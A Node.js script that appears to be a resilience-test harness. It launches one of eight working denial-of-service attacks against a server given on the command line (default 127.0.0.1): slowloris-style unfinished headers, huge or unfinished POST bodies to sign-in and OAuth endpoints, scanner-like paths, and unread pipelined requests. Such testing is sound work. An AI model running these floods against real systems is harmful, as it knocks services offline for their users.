// One of the attacks that a stranger can make, held until it is killed. A process of its own with little priority, as if it were
// another machine, plain JavaScript.
import { randomBytes } from "node:crypto";
import { connect } from "node:net";
import { setPriority } from "node:os";

const [kind, origin = "http://127.0.0.1", extra = "[]"] = process.argv.slice(2);
const { hostname, port } = new URL(origin);
const paths = JSON.parse(extra);
const PAUSE_MS = 50;
setPriority(10);

/** So many connections, each begun anew when it is closed; `send` gets each, and a number. */
function hold(count, send) {
  const open = (n) => {
    const socket = connect({ host: hostname, port: Number(port) }, () => send(socket, n));
    socket.on("error", () => undefined);
    socket.once("close", () => setTimeout(open, PAUSE_MS, n));
    return socket;
  };
  for (let n = 0; n < count; n += 1) setTimeout(open, n / 10, n);
}

/** Asks again as soon as it is answered. */
function repeat(count, pathOf) {
  hold(count, (socket, n) => {
    const ask = () => socket.write(`GET ${pathOf(n)} HTTP/1.1\r\nHost: x\r\n\r\n`);
    socket.on("data", () => setTimeout(ask, 1));
    ask();
  });
}

const post = (path, length) => `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Length: ${length}\r\n`;
const FORM = "Content-Type: application/x-www-form-urlencoded\r\n\r\n";

/** Writes as fast as it is read. */
function flood(socket, bytes) {
  const piece = Buffer.alloc(65_536, "x");
  let left = bytes;
  const more = () => {
    while (left > 0 && !socket.destroyed) {
      left -= piece.length;
      if (!socket.write(piece)) return void socket.once("drain", more);
    }
  };
  more();
}

const ATTACKS = {
  "unfinished bodies": () =>
    hold(66, (socket) => {
      socket.resume().write(`${post("/v1/oauth/token", 16_384)}${FORM}${"x".repeat(16_383)}`);
    }),
  "large bodies": () =>
    hold(40, (socket) => {
      socket.resume().write(post("/sign-in", 200_000_000) + FORM);
      flood(socket, 200_000_000);
    }),
  slashes: () => repeat(8, () => `/r/${"/".repeat(2_000)}x`),
  PDFs: () => repeat(6, (n) => paths[n % paths.length]),
  "paths of scanners": () => repeat(8, () => `/${randomBytes(6).toString("hex")}.php`),
  "wrong receipts": () => repeat(8, () => `/r/${randomBytes(14).toString("hex").slice(0, 27)}`),
  "unfinished heads": () => hold(9_000, (socket) => socket.write("GET /v1/stores HTTP/1.1\r\nHost: x\r\nX-Slow: ")),
  "unread answers": () =>
    hold(2_000, (socket) => {
      socket.pause();
      socket.write("GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n".repeat(60));
    }),
};

if (kind === "list") console.log(Object.keys(ATTACKS).join("\n"));
else ATTACKS[kind]();
